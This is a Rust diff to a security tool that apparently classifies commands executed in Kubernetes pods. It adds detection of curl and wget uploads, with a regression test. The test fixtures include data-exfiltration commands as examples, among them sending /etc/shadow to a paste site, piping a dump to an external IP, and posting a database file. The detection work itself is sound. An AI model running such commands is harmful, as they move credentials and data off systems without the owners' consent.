@@ -13,6 +13,9 @@ pub enum ExecClass {
     /// `wget https://…`): tools brought in, or data sent out. Not from loopback or
     /// in-cluster names (health checks), not the metadata service (its own class).
     Download,
+    /// Send data to a remote host (`curl -d @- http://…`, `curl -T file`, `wget
+    /// --post-file`): a file or a command's output leaving the pod. Not a download.
+    Upload,
     /// Reading service-account tokens, kubelet or cloud credentials, SSH keys, shadow.
     CredentialRead,
     /// Talking to the cloud instance metadata service.
@@ -40,6 +43,7 @@ impl ExecClass {
             ExecClass::ReverseShell => "reverse-shell",
             ExecClass::DownloadAndRun => "download-and-run",
             ExecClass::Download => "download",
+            ExecClass::Upload => "upload",
             ExecClass::CredentialRead => "credential-read",
             ExecClass::CloudMetadata => "cloud-metadata",
             ExecClass::TarCopy => "tar-copy",
@@ -102,7 +106,11 @@ pub fn classify(argv: &[String], stdin: bool, tty: bool) -> Vec<ExecClass> {
     if is_download_and_run(&lower) {
         out.push(ExecClass::DownloadAndRun);
     } else if !metadata && is_download(&lower) {
-        out.push(ExecClass::Download);
+        out.push(if is_upload(argv) {
+            ExecClass::Upload
+        } else {
+            ExecClass::Download
+        });
     }
     if CREDENTIAL_PATHS.iter().any(|p| lower.contains(p)) || reads_process_environ(&lower) {
         out.push(ExecClass::CredentialRead);
@@ -320,6 +328,31 @@ fn is_download(lower: &str) -> bool {
             .any(|(_, rest)| !is_local_host(rest))
 }
 
+/// A fetcher told to send a body (`curl -d/--data…/-F/--form/-T/--upload-file`, `wget
+/// --post-data/--post-file`): what it sends leaves the pod. Read from the command as typed
+/// (curl's `-F` sends a form, `-f` only fails quietly), inside `sh -c` strings too; called on
+/// commands [`is_download`] took.
+fn is_upload(argv: &[String]) -> bool {
+    argv.iter()
+        .flat_map(|a| a.split(|c: char| c.is_whitespace() || "'\"`()|;&".contains(c)))
+        .any(|tok| {
+            let flag = tok.split_once('=').map_or(tok, |(f, _)| f);
+            flag.starts_with("--data")
+                || matches!(
+                    flag,
+                    "--form"
+                        | "--form-string"
+                        | "--upload-file"
+                        | "--post-data"
+                        | "--post-file"
+                        | "--body-data"
+                        | "--body-file"
+                )
+                // `-d x`, and the value attached: `-d@file`, `-T/etc/shadow`, `-Fx=@f`.
+                || ["-d", "-F", "-T"].iter().any(|f| tok.starts_with(f))
+        })
+}
+
 /// Whether the authority of a URL (`host[:port]/path` after `://`, lower-cased) is this
 /// pod or the cluster: loopback, or a cluster-internal DNS name.
 #[expect(
@@ -524,6 +557,41 @@ mod tests {
         ] {
             assert!(!c(argv).contains(&"download"), "{argv:?}: {:?}", c(argv));
         }
+    }
+
+    #[test]
+    fn regression_uploads_were_downloads() {
+        let (up, down) = ("upload", "download");
+        for argv in [
+            &[
+                "sh",
+                "-c",
+                "cat /tmp/dump | curl -d @- http://45.137.21.9/t",
+            ][..],
+            &["curl", "-T", "/etc/shadow", "https://paste.example.net/"],
+            &["curl", "-Fdata=@/tmp/db.sql", "https://files.example.net/u"],
+            &["curl", "--data-binary", "@/tmp/x", "https://x.example.net"],
+            &["wget", "--post-file=/tmp/x", "http://203.0.113.9/"],
+        ] {
+            let got = c(argv);
+            assert!(
+                got.contains(&up) && !got.contains(&down),
+                "{argv:?}: {got:?}"
+            );
+        }
+        // curl's -f (fail quietly) and wget's -t (tries) send nothing.
+        for argv in [
+            &["curl", "-fsSL", "-o", "/tmp/k", "https://dl.example.net/k"][..],
+            &["wget", "-t", "3", "https://dl.example.net/k"],
+        ] {
+            let got = c(argv);
+            assert!(
+                got.contains(&down) && !got.contains(&up),
+                "{argv:?}: {got:?}"
+            );
+        }
+        // Sending to this pod or the cluster is no upload (nor a download).
+        assert!(c(&["curl", "-d", "{}", "http://localhost:8080/reload"]).is_empty());
     }
 
     #[test]
